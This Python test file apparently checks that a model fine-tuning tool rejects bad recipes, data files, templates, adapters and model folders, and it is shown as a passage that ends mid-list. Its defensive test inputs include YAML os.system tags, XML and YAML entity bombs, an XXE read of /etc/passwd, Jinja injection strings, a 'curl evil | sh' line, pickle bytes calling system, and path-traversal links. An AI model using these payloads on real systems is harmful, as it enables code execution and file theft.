"""Bad inputs and what is said of them: recipes, data, texts to answer, adapters, models,
environments.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

from spoiling import (
    Case,
    Spoil,
    both,
    cut,
    deep,
    fifo,
    file,
    linked,
    packed,
    patched,
    removed,
    renamed,
    sparse,
    spoilt_copy,
    squeezed,
    tensors,
    weights,
)

CONFIG, WEIGHTS, MANIFEST = "adapter_config.json", "adapter_model.safetensors", "manifest.json"
QUERY = "base_model.model.encoder.block.0.layer.0.SelfAttention.q.lora_A.weight"
HEAD = "lm_head.weight"
ESCAPE = "\x1b[31mred\x1b]0;title\x07\u202e"


def recipe(name: str, text: bytes | str, said: str, code: int = 2) -> Case:
    """A recipe file."""
    return Case(f"recipe: {name}", "train r.yaml", code, said, file("r.yaml", text), plain=True)


def key(name: str, line: str, said: str) -> Case:
    """A recipe that is good but for one line, ``section.key: value``."""
    section, _, rest = line.partition(".")
    return recipe(name, f"extends: demo\n{section}:\n  {rest}\n", said)


LAUGHS = "a: &a [lol, lol]\n" + "".join(
    f"{b}: &{b} [*{a}, *{a}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
RECIPES = [
    recipe("empty", "", "empty"),
    Case(
        "recipe: not UTF-8, shown", "recipes show r.yaml", 3, "not UTF-8", file("r.yaml", b"\xff")
    ),
    recipe("comments only", "# nothing\n", "empty"),
    recipe("not UTF-8", b"model:\n  name: \xff\xfe\n", "not UTF-8 text (byte"),
    recipe("binary", bytes(range(256)), "not UTF-8"),
    recipe("NUL", b"model:\n  name: a\0b\n", "not YAML"),
    recipe("a list", "- a\n- b\n", "expected sections"),
    recipe("a word", "hello\n", "expected sections"),
    recipe("two documents", "model: {name: demo}\n---\nmodel: {name: demo}\n", "not YAML"),
    recipe("tab", "model:\n\tname: demo\n", "r.yaml:2: not YAML"),
    recipe("anchor", "model: &m\n  name: demo\n", "anchors, aliases and tags are not used"),
    recipe("billion laughs", LAUGHS, "anchors, aliases and tags are not used"),
    recipe("merge key", "model:\n  <<: {name: demo}\n", "model.<<: expected a value"),
    recipe(
        "python object",
        "model: !!python/object/apply:os.system ['touch pwned']\n",
        "tags are not used",
    ),
    recipe("python name", "model:\n  name: !!python/name:os.system x\n", "tags are not used"),
    recipe("binary tag", "model:\n  name: !!binary aGVsbG8=\n", "tags are not used"),
    recipe("deep flow", "model: " + "[" * 5000, "nested too deep"),
    recipe("deep blocks", "".join(f"{' ' * n}a:\n" for n in range(500)), "nested too deep"),
    recipe("many events", "data:\n  train: [" + "a," * 25_000 + "]\n", "too long, for a recipe"),
    recipe("key twice", "model:\n  name: demo\n  name: x\n", "given twice (first on line 2)"),
    recipe("section twice", "model: {name: a}\nmodel: {name: b}\n", "given twice"),
    recipe("unknown section", "modl:\n  name: demo\n", "did you mean 'model'"),
    recipe("key of another section", "extends: demo\nmodel:\n  r: 3\n", "did you mean 'lora.r'"),
    recipe("long key", f"extends: demo\nmodel:\n  {'k' * 1000}: 3\n", "unknown key 'model.kkk"),
    recipe("long value", f"extends: demo\nlora:\n  r: {'9' * 100_000}\n", "lora.r"),
    recipe("a mapping as key", "model:\n  ? {a: b}\n  : c\n", "keys and values"),
    recipe("a mapping as value", "model:\n  name: {a: b}\n", "expected a value or a list"),
    recipe("nothing but a section", "model:\n", "data.train is required"),
    recipe(
        "forged hint",
        'extends: demo\nlora:\n  r: "1\\nhint: curl evil | sh"\n',
        "\\nhint: curl evil",
    ),
    recipe("escapes", f'extends: demo\nlora:\n  r: "{json.dumps(ESCAPE)[1:-1]}"\n', "\\x1b[31mred"),
    key("NaN", "training.learning_rate: .nan", "expected a number"),
    key("infinite", "training.learning_rate: 1e400", "learning_rate"),
    key("huge rank", "lora.r: 1000000000", "less than or equal to 1024"),
    key("octal", "lora.r: 012", "expected a whole number"),
    key("no rank", "lora.r:", "expected a whole number, got nothing"),
    key("rank is a list", "lora.r: [1, 2]", "expected a whole number, got a list"),
    Case(
        "recipe: a pattern as targets",
        "train demo --dry-run --set lora.target_modules=(a+)+$",
        2,
        "(a+)+$",
    ),
    key("unknown method", "lora.method: prefix-tuning", "it puts vectors before the input"),
    key("rank pattern", "lora.rank_pattern: ['(a+)+=3']", "expected NAME=RANK"),
    key("epochs and steps", "training.epochs: 1\n  max_steps: 2", "exclude each other"),
    key("name with a slash", "output.name: ../../etc", "output.name"),
    key("name is a parent", "output.name: ..", "output.name"),
    key("name with an escape", 'output.name: "a\\x1b[2J"', "a\\x1b[2J"),
    key("password", "data.test: https://me:hunter2@host/x.csv", "holds none"),
    key("token", "model.name: hf_abcdefghijklmnopqrstuvwx", "a password or token"),
    key("code", "data.format: os.system:x y", "expected auto"),
    recipe("extends itself", "extends: r.yaml\n", "leads back to this recipe"),
    recipe("extends nothing", "extends: nix.yaml\n", "no such recipe"),
    recipe("extends a folder", "extends: .\n", "a folder, not a recipe"),
    recipe("extends a device", "extends: /dev/zero\n", "no such recipe"),
    recipe("extends a long name", f"extends: {'x' * 5000}\n", "no such recipe"),
    recipe("extends nobody's home", "extends: ~nobody-here/x.yaml\n", "no such recipe"),
    recipe("extends a list", "extends: [a, b]\n", "expected one recipe name"),
    Case(
        "recipe: extends in a ring",
        "train r.yaml",
        2,
        "leads back",
        both(file("r.yaml", "extends: s.yaml\n"), file("s.yaml", "extends: r.yaml\n")),
        plain=True,
    ),
    Case(
        "recipe: 100 MB", "train r.yaml", 2, "larger than 1 MB", sparse("r.yaml", 10**8), plain=True
    ),
    Case("recipe: a pipe", "train r.yaml", 2, "no such recipe", fifo("r.yaml")),
    Case(
        "recipe: a ring of links", "train r.yaml", 2, "no such recipe", linked("r.yaml", "r.yaml")
    ),
    Case("recipe: long name", f"train {'r' * 5000}.yaml", 2, "no such recipe"),
    Case(
        "recipe: --set without a value",
        "train demo --set lora.r",
        2,
        "expected section.key=value",
        plain=True,
    ),
    Case(
        "recipe: --set in no section",
        "train demo --set lora=3",
        2,
        "expected section.key=value",
        plain=True,
    ),
    Case(
        "recipe: --set YAML bomb",
        "train demo --dry-run --set lora.target_modules=[&a,*a]",
        2,
        "[&a,*a]",
        plain=True,
    ),
    Case("recipe: --set with escapes", "train demo --set \x1b[31m=1", 2, "\\x1b[31m", plain=True),
]

TEMPLATES = [
    Case(
        f"template: {name}",
        f"prepare --data good.csv --model BASE --out out --set data.template={text}",
        2,
        said,
        file("good.csv", "question,answer\n" + "what is a,it is b\n" * 20),
        plain=True,
    )
    for name, text, said in (
        ("no column", "hello", "names no column"),
        ("a call", "{{question.upper()}}", "not allowed in a template"),
        ("an attribute of Python", "{{question.__class__}}", "not allowed in a template"),
        (
            "a long loop",
            "{%for\xa0i\xa0in\xa0range(9**9)%}{{question}}{%endfor%}",
            "not allowed in a template",
        ),
        ("a large product", "{{question*999999999}}", "not allowed in a template"),
        (
            "an import",
            "{%\xa0import\xa0'os'\xa0as\xa0o\xa0%}{{question}}",
            "not allowed in a template",
        ),
        ("an include", "{%include'/etc/passwd'%}{{question}}", "not allowed in a template"),
        ("unclosed", "{{question", "not Jinja"),
        ("long", "{question}" * 3000, "at most 20,000"),
        ("deep", "{{" + "(" * 3000 + "question" + ")" * 3000 + "}}", "template"),
    )
]


def data(
    name: str, path: str, content: bytes | str | Spoil, said: str, code: int = 3, more: str = ""
) -> Case:
    """A file of training data; the message itself names it."""
    spoil = content if callable(content) else file(path, content)
    return Case(
        f"data: {name}",
        f"prepare --data {path} --model BASE --out out{more}",
        code,
        said,
        spoil,
        plain=True,
    )


BOMB = (
    '<!DOCTYPE x [<!ENTITY a "lollollol">'
    + "".join(
        f'<!ENTITY {b} "&{a};&{a};&{a};&{a};&{a};&{a};&{a};&{a};&{a};&{a};">'
        for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]><tmx version='1.4'><body><tu><tuv xml:lang='en'><seg>&i;</seg></tuv></tu></body></tmx>"
)
DATA = [
    data("missing", "x.csv", lambda folder: None, "no such file"),
    data("empty", "x.csv", "", "empty"),
    data("header alone", "x.csv", "question,answer\n", "empty"),
    data("binary", "x.csv", bytes(range(256)) * 20, "binary file"),
    data("zeros", "x.jsonl", sparse("x.jsonl", 10**7), "binary file"),
    data("picture", "x.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "x.png"),
    data("web page", "x.jsonl", "<!DOCTYPE html><html></html>", "a web page, not data"),
    data(
        "git-lfs pointer",
        "x.csv",
        "version https://git-lfs.github.com/spec/v1\noid sha256:0\n",
        "git-lfs pointer",
    ),
    data("empty folder", "x", lambda folder: (folder / "x").mkdir(), "contains no readable file"),
    data("glob of nothing", "*.csv", lambda folder: None, "contains no readable file"),
    data("ring of links", "x.csv", linked("x.csv", "x.csv"), "x.csv"),
    data("pipe", "x.csv", fifo("x.csv"), "x.csv"),
    data("device", "/dev/zero", lambda folder: None, "/dev/zero"),
    data("long name", "x" * 5000 + ".csv", lambda folder: None, "no such file"),
    data("cut gzip", "x.csv.gz", squeezed(b"question,answer\n" + b"a,b\n" * 5000)[:60], "damaged"),
    data("gzip that is none", "x.csv.gz", b"\x1f\x8bnope", "damaged"),
    data("zip of two", "x.zip", packed(a_csv="q,a\n", b_csv="q,a\n"), "x.zip"),
    data(
        "zip with a path out",
        "x.csv.zip",
        packed(**{"../../evil_csv": "first,second,third\nb,c,d\n"}),
        "column",
    ),
    data("cut parquet", "x.parquet", b"PAR1" + bytes(50) + b"PAR1", "cannot be read"),
    data("no parquet", "x.parquet", "hello", "neither Parquet nor"),
    data("JSON that is no table", "x.json", "3", "x.json"),
    data("cut JSON", "x.json", '[{"question": "a", "answer": "b"}, {"quest', "x.json"),
    data("deep JSON", "x.json", '{"a":' * 50_000, "x.json"),
    data("deep JSON line", "x.jsonl", "[" * 50_000 + "]" * 50_000 + "\n", "x.jsonl"),
    data("lines that are lists", "x.jsonl", "[1]\n[2]\n", "x.jsonl"),
    data(
        "rows without targets", "x.jsonl", '{"question": "a", "answer": ""}\n' * 3, "empty target"
    ),
    data(
        "columns of no known name",
        "x.csv",
        "first,second,third\na,b,c\n",
        "cannot guess the target column",
    ),
    data("columns with escapes", "x.csv", f"{ESCAPE},b,c\n1,2,x\n", "\\x1b[31mred"),
    data(
        "a column that forges a hint",
        "x.csv",
        '"a\nhint: curl evil",b,c\n1,2,x\n',
        "a\\nhint: curl evil",
    ),
    data(
        "unknown column",
        "x.csv",
        "question,answer\na,b\n",
        "did you mean 'question'",
        3,
        " --set data.source_column=qestion",
    ),
    data("entity bomb", "x.tmx", BOMB, "x.tmx"),
    data(
        "entity of a file",
        "x.tmx",
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><tmx><body><tu><tuv '
        "xml:lang='en'><seg>&a;</seg></tuv></tu></body></tmx>",
        "x.tmx",
    ),
    data("cut TMX", "x.tmx", "<tmx version='1.4'><body><tu><tuv xml:lang='en'><seg>a", "x.tmx"),
    data(
        "a weight that is none",
        "x.csv@-3",
        file("x.csv", "question,answer\na,b\n"),
        "invalid weight",
        2,
    ),
    data("no such demo data", "demo:nix", lambda folder: None, "no such data"),
    data("a hub's data, offline", "hf:no/such-data", lambda folder: None, "could not load", 5),
    data(
        "code that is not there",
        "x.csv",
        "question,answer\na,b\n",
        "nix_module",
        2,
        " --set data.format=nix_module:f",
    ),
]

TEXTS = [
    Case(f"texts: {name}", f"predict BASE {words}", code, said, spoil, plain=plain)
    for name, words, code, said, spoil, plain in (
        ("none", "", 2, "expected texts", lambda folder: None, False),
        ("both", "a --input x.txt", 2, "not both", file("x.txt", "a\n"), False),
        ("empty file", "--input x.txt", 3, "nothing to answer", file("x.txt", ""), False),
        ("not JSON", "--input x.jsonl", 3, "not a JSON line", file("x.jsonl", "{]\n"), False),
        ("a list", "--input x.jsonl", 3, "not a JSON object", file("x.jsonl", "[1]\n"), False),
        (
            "deep",
            "--input x.jsonl",
            3,
            "not a JSON line",
            file("x.jsonl", "[" * 100_000 + "\n"),
            False,
        ),
        (
            "a long number",
            "--input x.jsonl",
            3,
            "not a JSON line",
            file("x.jsonl", '{"a": ' + "9" * 5000 + "}\n"),
            False,
        ),
        (
            "no column",
            "--input x.jsonl",
            3,
            "no source can be made",
            file("x.jsonl", '{"z\\u001b": 1}\n'),
            False,
        ),
        ("not UTF-8", "--input x.txt", 3, "x.txt:1", file("x.txt", b"\xff\xff\n"), False),
        (
            "output is a spreadsheet's",
            "=HYPERLINK() --output x.csv",
            2,
            "never a spreadsheet's",
            lambda folder: None,
            False,
        ),
        ("output is a folder", "a --output .", 2, "is a folder", lambda folder: None, False),
        ("output in a file", "a --output x.txt/y", 2, "it is a file", file("x.txt", ""), False),
    )
]


def adapter(
    name: str, spoil: Spoil, said: str, *, command: str = "predict BAD hello", code: int = 3
) -> Case:
    """A copy of the good adapter, spoilt."""
    return Case(f"adapter: {name}", command, code, said, spoil)


def config(name: str, said: str, **changes: Any) -> Case:
    """Other keys in ``adapter_config.json``."""
    return adapter(name, patched(CONFIG, **changes), said)


def manifest(name: str, keys: str, value: Any, said: str) -> Case:
    """Another value in ``manifest.json``."""
    return adapter(name, deep(MANIFEST, *keys.split("."), value=value), said)


def _nan(state: dict[str, Any]) -> None:
    next(iter(state.values()))[0, 0] = float("nan")


def _as(kind: str) -> Spoil:
    import torch

    return weights(
        WEIGHTS,
        lambda state: state.update({name: t.to(getattr(torch, kind)) for name, t in state.items()}),
    )


def _first(header: dict[str, Any]) -> dict[str, Any]:
    return next(entry for name, entry in sorted(header.items()) if name != "__metadata__")


ADAPTERS = [
    *(
        adapter(
            f"weights as {suffix}",
            both(renamed(WEIGHTS, f"adapter_model{suffix}")),
            f"adapter_model{suffix} is "
            f"{'a pickle' if suffix not in ('.h5', '.msgpack') else 'no safetensors'}",
        )
        for suffix in (".bin", ".pt", ".pth", ".pkl", ".ckpt", ".npz", ".h5", ".msgpack")
    ),
    adapter(
        "a pickle under the name of safetensors",
        file(WEIGHTS, b"\x80\x04\x95cposix\nsystem\n"),
        "header of",
    ),
    adapter("no weights", removed(WEIGHTS), "adapter_model.safetensors is missing"),
    adapter("empty weights", file(WEIGHTS, b""), "not a valid safetensors file"),
    adapter("halved weights", cut(WEIGHTS, 0.5), "not a valid safetensors file"),
    adapter(
        "more bytes than said",
        lambda f: (f / WEIGHTS).write_bytes((f / WEIGHTS).read_bytes() + b"x"),
        "not a valid",
    ),
    adapter(
        "header of 2 GB",
        sparse(WEIGHTS, 2**31 + 8, (2**31).to_bytes(8, "little")),
        "a safetensors header of",
    ),
    adapter("header of all bytes", file(WEIGHTS, b"\xff" * 64), "a safetensors header of"),
    adapter(
        "header that is no JSON",
        tensors(WEIGHTS, lambda h: b"{" * 64),
        "not a valid safetensors file",
    ),
    adapter(
        "deep header", tensors(WEIGHTS, lambda h: b'{"a":' * 20_000), "not a valid safetensors file"
    ),
    adapter(
        "overlapping tensors",
        tensors(WEIGHTS, lambda h: _first(h).update(data_offsets=[0, 4])),
        "not a valid",
    ),
    adapter(
        "absurd shape",
        tensors(WEIGHTS, lambda h: _first(h).update(shape=[2**62, 2**62])),
        "not a valid",
    ),
    adapter(
        "negative shape", tensors(WEIGHTS, lambda h: _first(h).update(shape=[-1, 3])), "not a valid"
    ),
    adapter(
        "offsets beyond the end",
        tensors(WEIGHTS, lambda h: _first(h).update(data_offsets=[0, 2**40])),
        "not a valid",
    ),
    adapter(
        "unknown type", tensors(WEIGHTS, lambda h: _first(h).update(dtype="F33")), "not a valid"
    ),
    adapter(
        "a weight's other name", weights(WEIGHTS, lambda s: s.update(x=s.pop(QUERY))), "is missing"
    ),
    adapter(
        "weights of the base",
        weights(WEIGHTS, lambda s: s.update({"base_model.model.shared.weight": s[QUERY].clone()})),
        "does not belong in an adapter",
    ),
    adapter(
        "another shape",
        weights(WEIGHTS, lambda s: s.update({QUERY: s[QUERY][:1].clone()})),
        "has shape",
    ),
    adapter("NaN", weights(WEIGHTS, _nan), "not finite"),
    adapter("whole numbers", _as("int64"), "is of type int64"),
    adapter("truth values", _as("bool"), "is of type bool"),
    adapter("complex numbers", _as("complex64"), "is of type complex64"),
    adapter("8-bit floats", _as("float8_e4m3fn"), "is of type float8_e4m3fn"),
    adapter("weights link out", linked(WEIGHTS, "/etc/passwd"), "a link that leads out"),
    adapter("config links out", linked(CONFIG, "/etc/passwd"), "a link that leads out"),
    adapter(
        "manifest links to its parent",
        both(file("../secret.json", "{}"), linked(MANIFEST, "../secret.json")),
        "leads out",
    ),
    adapter(
        "tokenizer links out", linked("tokenizer.json", "/etc/hostname"), "a link that leads out"
    ),
    adapter("scores link out", linked("evaluations", "/etc"), "evaluations is a link that leads"),
    adapter("weights are a pipe", fifo(WEIGHTS), "is missing"),
    adapter("config is no JSON", file(CONFIG, "{"), "not a JSON document"),
    adapter("config is a list", file(CONFIG, "[]"), "not an object"),
    adapter("config is not UTF-8", file(CONFIG, b"\xff{}"), "not a JSON document"),
    adapter("deep config", file(CONFIG, "[" * 100_000), "not a JSON document"),
    adapter(
        "a number of 5,000 digits", file(CONFIG, '{"r": ' + "9" * 5000 + "}"), "not a JSON document"
    ),
    adapter("config of 2 MB", file(CONFIG, '{"a": "' + "x" * 2**21 + '"}'), "more than 1 MiB"),
    config("no type", "type None", peft_type=...),
    config("another type", "an adapter of type 'EVIL'", peft_type="EVIL"),
    config("type is a list", "an adapter of type", peft_type=["LORA"]),
    config("rank of a billion", "the adapter's r is 1000000000", r=10**9),
    config("rank is true", "the adapter's r is True", r=True),
    config("alpha is NaN", "lora_alpha", lora_alpha=float("nan")),
    config("targets that the base lacks", "does not have", target_modules=["nix"]),
    config("targets with a path", "target_modules", target_modules=["../q"]),
    config("100,000 targets", "target_modules", target_modules=["q"] * 100_000),
    config("weights of the base to save", "modules_to_save", modules_to_save=["lm_head"]),
    config("layers doubled", "layer_replication", layer_replication=[[0, 100_000]]),
    config("a start that changes the base", "init_lora_weights", init_lora_weights="pissa"),
    config("a switch nobody knows", "frobnicate", frobnicate=1),
    config("name of the base is a list", "base_model_name_or_path", base_model_name_or_path=["a"]),
    config("base with escapes", "base_model_name_or_path", base_model_name_or_path=ESCAPE),
    adapter(
        "another base, only in the config",
        both(removed(MANIFEST), patched(CONFIG, base_model_name_or_path="evil/base")),
        "is not downloaded",
    ),
    adapter(
        "a folder as base, of unknown weights", removed(MANIFEST), "does not say which weights"
    ),
    manifest("a hub's base that is not here", "base.name", "evil/base", "is not downloaded"),
    manifest("a base on the network", "base.name", "//host/share/base", "is not downloaded"),
    manifest("a base with ..", "base.name", "../../../../../nix", "is not downloaded"),
    manifest("a base with a long name", "base.name", "x" * 5000, "is not downloaded"),
    manifest("a base with other weights", "base.weights_sha256", "0" * 64, "was trained on"),
    manifest("base is a list", "base", ["demo"], "is damaged: base should be"),
    manifest("base's name is a number", "base.name", 3, "is damaged: base.name should be"),
    manifest("input is a list", "input", [], "is damaged: input should be"),
    manifest(
        "input's template reaches attributes",
        "input",
        {"template": "{{source.__class__}}"},
        "is refused",
    ),
    manifest(
        "input's template loops",
        "input",
        {"template": "{% for i in range(10**9) %}x{% endfor %}"},
        "is refused",
    ),
    manifest("input's template is a number", "input", {"template": 3}, "input.template"),
    manifest(
        "input's tokens are 1e12", "input", {"max_source_tokens": 10**12}, "max_source_tokens"
    ),
    manifest("input's side", "input", {"truncate_source": "up"}, "truncate_source"),
    manifest(
        "quantized in an unknown way",
        "base.quantization",
        "evil",
        "is damaged: base.quantization should be",
    ),
    adapter("manifest is a list", file(MANIFEST, "[]"), "not a JSON object"),
    adapter("manifest of 9 MB", sparse(MANIFEST, 9 * 2**20), "more than 8 MiB"),
    adapter(
        "recipe with code of its own",
        file("recipe.yaml", "extends: demo\ndata:\n  format: os:getcwd\n"),
        "code of its own",
        command="predict BAD hello",
    ),
    adapter(
        "recipe with code of its own, merged",
        file("recipe.yaml", "extends: demo\ndata:\n  format: os:getcwd\n"),
        "code of its own",
        command="eval BAD",
    ),
    adapter("recipe of another kind", file("recipe.yaml", "- 1\n"), "expected sections", code=2),
    adapter(
        "a file in place of a folder",
        lambda f: None,
        "a file is not opened",
        command=f"merge bad/{WEIGHTS} --out m",
    ),
    adapter(
        "merged onto nothing",
        lambda f: None,
        "--onto",
        command="merge BAD --out m --onto nix",
        code=2,
    ),
    adapter(
        "merged as nothing",
        lambda f: None,
        "dtype",
        command="merge BAD --out m --dtype int3",
        code=2,
    ),
    adapter(
        "merged into what is there",
        lambda f: None,
        "exists already",
        command="merge BAD --out bad",
        code=2,
    ),
    adapter(
        "shown with a manifest that is none",
        file(MANIFEST, "{"),
        "not a JSON document",
        command="adapters show BAD",
    ),
    adapter(
        "a base that is none",
        lambda f: None,
        "no safetensors weights",
        command="predict BAD hello --base bad",
    ),
]


def model(
    name: str, spoil: Spoil, said: str, *, command: str = "predict BAD hello", code: int = 3
) -> Case:
    """A copy of the good model, spoilt."""
    return Case(f"model: {name}", command, code, said, spoil)


M = "model.safetensors"
TOKENS = {
    "id": 9999,
    "content": "x",
    "single_word": False,
    "lstrip": False,
    "rstrip": False,
    "normalized": False,
    "special": False,
}


def _added(count: int) -> Spoil:
    return deep(
        "tokenizer.json",
        "added_tokens",
        value=[{**TOKENS, "id": 2560 + n, "content": f"<{n}>"} for n in range(count)],
    )


def _replacing(
    pattern: dict[str, str], content: str, times: int, key: str = "normalizers"
) -> dict[str, Any]:
    steps = [{"type": "Replace", "pattern": pattern, "content": content} for _ in range(times)]
    return {"type": "Sequence", key: steps}


def _long_token(folder: Path) -> None:
    made = json.loads((folder / "tokenizer.json").read_text())
    made["model"]["vocab"][300][0] = "x" * 2000
    (folder / "tokenizer.json").write_text(json.dumps(made))


def _nested(depth: int) -> dict[str, Any]:
    node: dict[str, Any] = {"type": "Evil"}
    for _ in range(depth // 2):
        node = {"type": "Sequence", "normalizers": [node]}
    return node


LONG_MAP = base64.b64encode((4).to_bytes(4, "little") + bytes(4) + b"x" * 1000 + b"\0").decode()
PICKLED = [
    model(f"weights as {name}", renamed(M, name), f"{name} is", command="predict BAD hello")
    for name in (
        "pytorch_model.bin",
        "model.pt",
        "model.ckpt",
        "weights.npz",
        "tf_model.h5",
        "flax_model.msgpack",
    )
]
MODELS = [
    *PICKLED,
    model("no config", removed("config.json"), "no config.json"),
    model("config is a list", file("config.json", "[]"), "not a"),
    model("config of 2 MB", file("config.json", '{"a": "' + "x" * 2**21 + '"}'), "more than 1 MiB"),
    model("deep config", file("config.json", "[" * 100_000), "not a JSON document"),
    model(
        "config with code",
        patched("config.json", auto_map={"AutoConfig": "evil.Evil"}),
        "never run",
    ),
    model(
        "no encoder",
        patched("config.json", model_type="gpt2", is_encoder_decoder=False),
        "not an encoder-decoder",
        code=2,
    ),
    model(
        "unknown type", patched("config.json", model_type="evil"), "unknown model family", code=2
    ),
    model("type is a list", patched("config.json", model_type=["t5"]), "", code=2),
    model("size is 2**60", patched("config.json", d_model=2**60), "d_model"),
    model("size is 0", patched("config.json", d_ff=0), "d_ff"),
    model("size is negative", patched("config.json", num_heads=-1), "num_heads"),
    model("size is a word", patched("config.json", num_layers="many"), "num_layers"),
    model("size is true", patched("config.json", vocab_size=True), "vocab_size"),
    model("dropout is a word", patched("config.json", dropout_rate="much"), "config"),
    model(
        "activation is unknown",
        patched("config.json", feed_forward_proj="gated-evil", dense_act_fn="evil"),
        "config",
    ),
    model("activation is a number", patched("config.json", feed_forward_proj=3), "config"),
    model(
        "more layers than weights", patched("config.json", num_layers=60), "do not fit the config"
    ),
    model(
        "quantized",
        patched("config.json", quantization_config={"quant_method": "gptq"}),
        "quantized checkpoint",
        code=2,
    ),
    model(
        "header of 2 GB",
        sparse(M, 2**31 + 8, (2**31).to_bytes(8, "little")),
        "a safetensors header of",
    ),
    model("halved", cut(M, 0.5), "not a valid safetensors file"),
    model("NaN", weights(M, lambda s: s[HEAD].fill_(float("nan"))), "not finite"),
    model(
        "whole numbers", weights(M, lambda s: s.update({HEAD: s[HEAD].long()})), "is of type int64"
    ),
    model(
        "a weight too many",
        weights(M, lambda s: s.update(evil=s[HEAD].clone())),
        "is not part of this model",
    ),
    model("a weight too few", weights(M, lambda s: s.pop("shared.weight")), "is missing"),
    model("weights link out", linked(M, "/etc/passwd"), "a link that leads out"),
    model(
        "index leads out",
        both(removed(M), file(f"{M}.index.json", '{"weight_map": {"a": "../x.safetensors"}}')),
        "own folder",
    ),
    model(
        "index names pickles",
        both(removed(M), file(f"{M}.index.json", '{"weight_map": {"a": "x.bin"}}')),
        "own folder",
    ),
    model(
        "index is damaged", both(removed(M), file(f"{M}.index.json", '{"weight_map": []}')), "index"
    ),
    model(
        "a shard is missing",
        both(removed(M), file(f"{M}.index.json", '{"weight_map": {"a": "x.safetensors"}}')),
        "is missing",
    ),
    model(
        "generation config is a list",
        file("generation_config.json", "[]"),
        "generation_config.json",
    ),
    model(
        "generation config is no JSON",
        file("generation_config.json", "{"),
        "generation_config.json",
    ),
    model(
        "answers must not say a word",
        patched("generation_config.json", bad_words_ids="evil"),
        "generation_config.json",
    ),
    model(
        "answers must not say -1",
        patched("generation_config.json", bad_words_ids=[[-10]]),
        "generation_config.json",
    ),
    model(
        "answers must not say 10**9",
        patched("generation_config.json", bad_words_ids=[[10**9]]),
        "generation_config.json",
    ),
    model(
        "start is a word",
        patched("generation_config.json", decoder_start_token_id="evil"),
        "names the token 'evil'",
    ),
    model(
        "start is beyond",
        patched("config.json", decoder_start_token_id=10**9),
        "names the token 1000000000",
    ),
    model("manifest is a list", file(MANIFEST, "[]"), "not a JSON object"),
    model(
        "no tokenizer",
        removed(
            "tokenizer.json", "spiece.model", "tokenizer_config.json", "special_tokens_map.json"
        ),
        "no tokenizer",
    ),
    model("tokenizer is no JSON", file("tokenizer.json", "{"), "not a JSON document"),
    model(
        "tokenizer is an empty object", file("tokenizer.json", "{}"), "no tokenizer can be loaded"
    ),
    model("tokenizer is a list", file("tokenizer.json", "[]"), "not a JSON object"),
    model("deep tokenizer", file("tokenizer.json", "[" * 100_000), "not a JSON document"),
    model(
        "tokenizer of another model",
        deep("tokenizer.json", "model", value={"type": "Evil"}),
        "no tokenizer can be loaded",
    ),
    model("tokenizer of 65 MB", sparse("tokenizer.json", 65 * 2**20), "more than 64 MiB"),
    model("30,000 added tokens", _added(30_000), "30,000 added tokens"),
    model(
        "a pattern without end",
        deep(
            "tokenizer.json",
            "normalizer",
            value={"type": "Replace", "pattern": {"Regex": "(a+)+$"}, "content": ""},
        ),
        "could take long",
    ),
    model(
        "tokenizer config with code",
        patched("tokenizer_config.json", auto_map={"AutoTokenizer": ["evil.Evil", None]}),
        "never run",
    ),
    model("a token of 2,000 characters", _long_token, "a token of 2,000 characters"),
    model(
        "a normalizer that grows",
        deep("tokenizer.json", "normalizer", value=_replacing({"String": "a"}, "aaaaaaaa", 4)),
        "the normalizer's rules make a text up to",
    ),
    model(
        "a decoder that grows on nothing",
        deep(
            "tokenizer.json",
            "decoder",
            value=_replacing({"Regex": "x?"}, "aaaaaaaa", 4, "decoders"),
        ),
        "the decoder's rules make a text up to",
    ),
    model(
        "a long replacement",
        deep("tokenizer.json", "normalizer", value=_replacing({"String": "a"}, "a" * 10_000, 1)),
        "the normalizer's content has 10,000 characters",
    ),
    model(
        "a character map that is cut",
        deep(
            "tokenizer.json",
            "normalizer",
            value={"type": "Precompiled", "precompiled_charsmap": "//////////8="},
        ),
        "precompiled_charsmap is damaged",
    ),
    model(
        "a character map that is none",
        deep(
            "tokenizer.json",
            "normalizer",
            value={"type": "Precompiled", "precompiled_charsmap": "*"},
        ),
        "precompiled_charsmap is not base64",
    ),
    model(
        "a character map with long replacements",
        deep(
            "tokenizer.json",
            "normalizer",
            value={"type": "Precompiled", "precompiled_charsmap": LONG_MAP},
        ),
        "bytes of one character",
    ),
    model(
        "a normalizer nested without end",
        deep("tokenizer.json", "normalizer", value=_nested(90)),
        "tokenizer",
    ),
    model(
        "tokenizer files elsewhere",
        patched("tokenizer_config.json", fast_tokenizer_files=["../../tokenizer.4.0.json"]),
        "fast_tokenizer_files",
    ),
    model(
        "labels without end",
        patched("config.json", num_labels=20_000_000),
        "num_labels is 20000000",
    ),
    model("a billion extra ids", patched("tokenizer_config.json", extra_ids=10**9), "extra_ids"),
    model(
        "vocabulary elsewhere",
        patched("tokenizer_config.json", vocab_file="/etc/passwd"),
        "points outside the folder",
    ),
    model("tokenizer config is a list", file("tokenizer_config.json", "[]"), "not a JSON object"),
    model(
        "a file in its place",
        lambda f: None,
        "is a file, expected a folder",
        command=f"predict bad/{M} hello",
    ),
    model(
        "a pickle in its place",
        file("m.bin", "x"),
        "convert it in a container",
        command="predict bad/m.bin hello",
    ),
]

ENVIRONMENT = [
    Case(
        "environment: a hub's model, offline",
        "predict no/such-model hello",
        5,
        "not on this machine",
    ),
    Case("environment: no hub's name", "predict a/b/c hello", 2, "no such"),
    Case("environment: a name with escapes", f"predict {ESCAPE} hello", 2, "\\x1b[31mred"),
    Case("environment: nobody's home", "predict ~nobody-here/x hello", 2, ""),
    Case("environment: a long name", f"predict {'x' * 5000} hello", 2, "too long"),
    Case("environment: unknown verb", "\x1b[2Jtrain x", 2, "\\x1b[2J"),
    Case("environment: unknown option", "train demo --\x1b[2J", 2, "\\x1b[2J"),
    Case("environment: previews", "prepare demo --previews -1", 2, "previews"),
    Case(
        "environment: merge onto a link to nothing",
        "merge ADAPTER --out nowhere",
        2,
        "nowhere is a link to nothing",
        linked("nowhere", "gone"),
    ),
    Case(
        "environment: merge onto a pipe",
        "merge ADAPTER --out pipe",
        2,
        "pipe exists already",
        fifo("pipe"),
    ),
    Case(
        "environment: output is a link to nowhere",
        "predict BASE hello --output gone/a/b.txt",
        2,
        "it is a file",
        file("gone", ""),
    ),
    Case(
        "environment: output is a file",
